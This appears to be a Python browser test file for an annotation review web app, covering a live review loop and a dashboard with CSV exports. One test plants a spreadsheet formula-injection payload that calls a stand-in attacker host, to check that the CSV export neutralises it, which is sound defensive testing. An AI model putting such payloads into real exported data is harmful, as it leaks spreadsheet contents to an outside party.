"""The review loop in real Chromium against a real ASGI server (uvicorn: HTTP and WebSockets) on the test DB:
annotator submits → the lead sees it appear live → rejects with a comment → the annotator sees it, fixes and
resubmits → the lead accepts → the history shows all four transitions."""

from __future__ import annotations

import io
import socket
import subprocess
import sys
import time

import pytest
from django.db import connections
from PIL import Image

from annotation.models import Annotation, AnnotationStatus
from tests.conftest import REPO, _worker_env, login
from tests.ports import free_port
from traces import grammar
from traces.models import Step, Trace
from traces.services import screenshot_store

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("role_groups")]


@pytest.fixture
def asgi_server(transactional_db):
    """uvicorn serving studio.asgi on the test database (live_server is WSGI: no WebSockets)."""
    port = free_port()
    log = (
        open(REPO / "test-artifacts" / "uvicorn-review.log", "w")
        if (REPO / "test-artifacts").is_dir()
        else subprocess.DEVNULL
    )
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "uvicorn",
            "studio.asgi:application",
            "--host",
            "127.0.0.1",
            "--port",
            str(port),
            "--log-level",
            "warning",
        ],
        cwd=REPO,
        env=_worker_env(),
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    deadline = time.monotonic() + 60
    while True:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            break
        except OSError:
            if proc.poll() is not None or time.monotonic() > deadline:
                proc.kill()
                raise RuntimeError("uvicorn did not start") from None
            time.sleep(0.2)
    yield f"http://127.0.0.1:{port}"
    proc.terminate()
    try:
        proc.wait(15)
    except subprocess.TimeoutExpired:
        proc.kill()
    connections.close_all()


def png(seed: int) -> bytes:
    image = Image.new("RGB", (1280, 800), (230, 233, 240))
    image.paste((40 + seed * 40, 90, 200), (100 + seed * 50, 100, 400 + seed * 50, 200))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.fixture
def draft(project, annotator):
    trace = Trace.objects.create(
        project=project, external_id="review-loop", instruction="Bookmark this page", source="test", step_count=3
    )
    for i in range(1, 4):
        shot, _ = screenshot_store(data=png(i), name=f"s{i}.png")
        Step.objects.create(
            trace=trace,
            index=i,
            screenshot=shot,
            thought=f"I will close the red tab {i}.",
            action_text=f"click(start_box='<|box_start|>({200 * i},{300})<|box_end|>')",
        )
    corrected = grammar.parse_action("click(start_box='<|box_start|>(700,120)<|box_end|>')")
    reflection = grammar.parse_action("hotkey(key='ctrl shift t')")
    return Annotation.objects.create(
        trace=trace,
        project=trace.project,
        annotator=annotator,
        verdict="error",
        tau=2,
        error_category="wrong element / grounding",
        corrected_thought="I will click the bookmark star in the blue toolbar.",
        reflection_thought="I closed the tab by mistake; reopen it.",
        editor_state={"corrected": corrected.to_json(), "reflection": reflection.to_json()},
        corrected_action=grammar.render_action(corrected),
        reflection_action=grammar.render_action(reflection),
        time_spent_s=42,
    )


API_CALL = """async ([url, method, body]) => {
  const token = (document.cookie.match(/csrftoken=([^;]+)/) || [])[1] || "";
  const response = await fetch(url, {method, credentials: "same-origin",
    headers: {"Content-Type": "application/json", "X-CSRFToken": token}, body: JSON.stringify(body)});
  return {status: response.status, body: await response.json()};
}"""


def api(page, url, method, body):
    result = page.evaluate(API_CALL, [url, method, body])
    assert result["status"] == 200, result
    return result["body"]


def test_reject_fix_resubmit_accept_live(browser, asgi_server, project, annotator, lead, draft, artifacts_dir):
    base = asgi_server
    lead_ctx, ann_ctx = browser.new_context(viewport={"width": 1600, "height": 1000}), browser.new_context()
    lead_page, ann_page = lead_ctx.new_page(), ann_ctx.new_page()
    errors = []
    lead_page.on("pageerror", lambda exc: errors.append(str(exc)))
    login(lead_page, base, "leader")
    login(ann_page, base, "ann")
    ann_page.goto(f"{base}/projects/")

    lead_page.goto(f"{base}/reviews/")
    lead_page.wait_for_selector("#live[data-connected='1']", state="attached", timeout=15000)
    row = f"tr[data-annotation-id='{draft.pk}']"
    assert lead_page.locator(row).count() == 0

    # 1. the annotator submits; the lead's queue shows it without a reload
    api(ann_page, f"/api/annotations/{draft.pk}/submit/", "POST", {"version": draft.version})
    lead_page.wait_for_selector(row, timeout=15000)
    # The verdict in the review page's words, the same live and rendered (it was the stored "error at step 2").
    assert lead_page.inner_text(f"{row} td:nth-child(3)") == "First error at step 2"
    lead_page.reload()
    assert lead_page.inner_text(f"{row} td:nth-child(3)") == "First error at step 2"
    lead_page.wait_for_selector("#live[data-connected='1']", state="attached", timeout=15000)

    # 2. the lead opens it: both actions drawn on o_τ, the post-reflection on o_{τ+1}, the thoughts diffed
    lead_page.click(f"{row} a")
    lead_page.wait_for_selector(".shot-frame[data-markers] .marker.corrected")
    assert lead_page.locator(".shot-frame[data-markers] .marker.original").count() == 1
    assert lead_page.locator(".diff-delete").count() >= 1 and lead_page.locator(".diff-insert").count() >= 1
    assert "ctrl shift t" in lead_page.inner_text(".review-grid")
    lead_page.screenshot(path=str(artifacts_dir / "review-detail.png"), full_page=True)
    lead_page.fill("#review-comment", "The star is in the address bar, not the toolbar.")
    lead_page.click("#reject-button")
    lead_page.wait_for_url(f"{base}/reviews/")
    assert Annotation.objects.get(pk=draft.pk).status == AnnotationStatus.REJECTED

    # 3. the annotator sees the comment in their queue, fixes the thought and resubmits
    lead_page.wait_for_selector("#live[data-connected='1']", state="attached", timeout=15000)
    ann_page.goto(f"{base}/queue/")
    assert "The star is in the address bar" in ann_page.inner_text("body")
    version = Annotation.objects.get(pk=draft.pk).version
    fixed = api(
        ann_page,
        f"/api/annotations/{draft.pk}/draft/",
        "PUT",
        {"version": version, "corrected_thought": "I will click the bookmark star in the address bar."},
    )
    api(ann_page, f"/api/annotations/{draft.pk}/submit/", "POST", {"version": fixed["version"]})
    lead_page.wait_for_selector(row, timeout=15000)

    # 4. the lead accepts; the history lists the four transitions in order
    lead_page.click(f"{row} a")
    lead_page.click("#accept-button")
    lead_page.wait_for_url(f"{base}/reviews/")
    assert Annotation.objects.get(pk=draft.pk).status == AnnotationStatus.ACCEPTED
    lead_page.goto(f"{base}/reviews/{draft.pk}/")
    moves = lead_page.eval_on_selector_all(
        "#history tr[data-kind='transition']", "rows => rows.map(r => r.dataset.from + '>' + r.dataset.to)"
    )
    assert moves == ["draft>submitted", "submitted>rejected", "rejected>submitted", "submitted>accepted"]
    assert "The star is in the address bar" in lead_page.inner_text("#history")
    lead_page.screenshot(path=str(artifacts_dir / "review-history.png"), full_page=True)
    assert not errors, errors
    lead_ctx.close()
    ann_ctx.close()


FORMULA_CATEGORY = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def test_dashboard_draws_charts_and_updates_live(browser, asgi_server, project, annotator, lead, draft, artifacts_dir):
    project.error_categories = [*project.error_categories, FORMULA_CATEGORY]
    project.save(update_fields=["error_categories"])
    draft.error_category = FORMULA_CATEGORY
    draft.save(update_fields=["error_category"])
    base = asgi_server
    page = browser.new_context(viewport={"width": 1600, "height": 1000}).new_page()
    errors = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    login(page, base, "leader")
    page.goto(f"{base}/projects/{project.pk}/dashboard/")
    page.wait_for_selector("#live[data-connected='1']", state="attached", timeout=15000)
    page.wait_for_selector("#dashboard[data-loaded]")
    assert page.inner_text("[data-counter='submitted']") == "0"
    assert page.locator("[data-chart][data-drawn='1']").count() == 6
    # Nothing in the range yet: each chart says why in words instead of drawing bare axes, and counts of pairs are
    # the server's words ("0 pairs"; "1 pairs" before).
    assert page.locator("[data-chart][data-empty='1'] [data-chart-empty]:visible").count() == 6
    assert page.locator("[data-chart] canvas:visible").count() == 0
    assert page.inner_text("[data-figure='click']") == "– (0 pairs)"

    ann_page = browser.new_context().new_page()
    login(ann_page, base, "ann")
    ann_page.goto(f"{base}/projects/")
    api(ann_page, f"/api/annotations/{draft.pk}/submit/", "POST", {"version": draft.version})
    page.wait_for_selector("[data-counter='submitted']:text-is('1')", timeout=15000)  # no reload
    page.reload()
    page.wait_for_selector("#dashboard[data-loaded]")
    page.screenshot(path=str(artifacts_dir / "dashboard.png"), full_page=True)
    assert page.locator("[data-chart='done_per_day'] canvas").is_visible()
    assert page.locator("[data-chart='done_per_day'] [data-chart-empty]").is_hidden()
    assert page.locator("[data-chart='agreement'] [data-chart-empty]").is_visible()  # one answer: no pair yet

    with page.expect_download() as download:
        page.click("[data-csv='median_time']")
    text = open(download.value.path()).read()
    assert text.splitlines()[0] == "annotator,median_seconds" and "ann,42" in text
    # a category a lead typed as a formula is text in a spreadsheet (OWASP's apostrophe), not only quoted
    with page.expect_download() as download:
        page.click("[data-csv='error_categories']")
    rows = open(download.value.path()).read().splitlines()
    assert rows == ["category,count", f'"\'{FORMULA_CATEGORY.replace(chr(34), chr(34) * 2)}",1'], rows
    assert not errors, errors
